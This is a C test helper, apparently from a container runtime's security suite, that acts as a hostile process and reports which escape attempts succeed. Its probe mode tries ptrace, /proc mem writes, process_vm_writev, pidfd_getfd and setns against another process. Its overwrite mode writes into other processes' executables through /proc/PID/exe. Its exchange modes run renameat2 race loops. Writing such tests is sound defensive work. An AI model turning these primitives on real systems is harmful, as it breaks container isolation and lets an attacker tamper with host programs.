/*
 * What a hostile process in a container tries that a shell cannot. It prints one line for each attempt, and knows nothing of tsrunc.
 *
 *   attacker probe PID ADDRESS looks into another process in every way that the kernel has
 *   attacker overwrite MS      opens the programs of all processes that appear, and writes to them
 *   attacker exchange A B MS   exchanges two files, again and again
 *   attacker once A B GO DONE  exchanges them once, between the opening of a FIFO and that of another
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#define SYS_pidfd_getfd 438
#endif
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static long long now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec * 1000LL + time.tv_nsec / 1000000;
}

static void tell(const char *what, long result)
{
    printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "works");
}

static void probe(int pid, void *address)
{
    static const char *const files[] = { "mem", "maps", "environ", "auxv", "exe", "cwd/.", "root/.", "fd/0" };
    static const char *const links[] = { "exe", "cwd", "root", "fd/3", "fd/4", "fd/6", "ns/mnt" };
    char path[64], text[4096];

    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int file = open(path, O_RDONLY);
        /* What cannot be opened is one thing; what can be, and then shows nothing, another. */
        int shows = file >= 0 && (read(file, text, sizeof text) > 0 || errno == EISDIR);
        tell(path, file < 0 || shows ? file : (errno = ENODATA, -1));
    }
    for (unsigned i = 0; i < sizeof links / sizeof *links; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
        snprintf(text, sizeof text, "readlink %s", path);
        char target[256];
        tell(text, readlink(path, target, sizeof target));
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    tell("write to mem", open(path, O_RDWR));
    tell("PTRACE_SEIZE", ptrace(PTRACE_SEIZE, pid, 0, 0));
    tell("PTRACE_ATTACH", ptrace(PTRACE_ATTACH, pid, 0, 0));
    struct iovec here = { text, 64 }, there = { address, 64 };
    tell("process_vm_readv", process_vm_readv(pid, &here, 1, &there, 1, 0));
    tell("process_vm_writev", process_vm_writev(pid, &here, 1, &there, 1, 0));
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    for (int descriptor = 0; descriptor < 10; descriptor++) {
        snprintf(text, sizeof text, "pidfd_getfd %d", descriptor);
        tell(text, syscall(SYS_pidfd_getfd, pidfd, descriptor, 0));
    }
    tell("setns", setns(pidfd, CLONE_NEWNS));
}

static void overwrite_program(const char *name)
{
    char path[300], own[64], target[256];
    snprintf(path, sizeof path, "/proc/%s/exe", name);
    int program = open(path, O_RDONLY | O_CLOEXEC);
    if (program < 0) {
        if (errno != ENOENT)
            printf("open %s\n", strerrorname_np(errno));
        return;
    }
    snprintf(own, sizeof own, "/proc/self/fd/%d", program);
    ssize_t length = readlink(own, target, sizeof target - 1);
    target[length < 0 ? 0 : length] = 0;
    int writable = open(own, O_WRONLY | O_CLOEXEC);
    if (writable < 0)
        printf("%s: open %s\n", target, strerrorname_np(errno));
    else
        printf("%s: write %s\n", target, write(writable, "#!/attack", 9) < 0 ? strerrorname_np(errno) : "works");
    close(writable);
    close(program);
}

static void overwrite(long long end)
{
    char self[16];
    snprintf(self, sizeof self, "%d", getpid());
    puts("ready");
    while (now() < end) {
        DIR *processes = opendir("/proc");
        for (struct dirent *entry; processes && (entry = readdir(processes));)
            if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9' && strcmp(entry->d_name, self))
                overwrite_program(entry->d_name);
        closedir(processes);
    }
}

static void exchange(const char *one, const char *other)
{
    syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

int main(int count, char **arguments)
{
    /* Whole lines, whenever this is killed. */
    setvbuf(stdout, 0, _IOLBF, 0);
    if (count == 4 && !strcmp(arguments[1], "probe"))
        probe(atoi(arguments[2]), (void *)strtoul(arguments[3], 0, 0));
    else if (count == 3 && !strcmp(arguments[1], "overwrite"))
        overwrite(now() + atoi(arguments[2]));
    else if (count == 5 && !strcmp(arguments[1], "exchange"))
        for (long long end = now() + atoi(arguments[4]); now() < end;)
            exchange(arguments[2], arguments[3]);
    else if (count == 6 && !strcmp(arguments[1], "once") && open(arguments[4], O_RDONLY) >= 0) {
        exchange(arguments[2], arguments[3]);
        open(arguments[5], O_WRONLY);
    }
    else
        return 2;
    return 0;
}
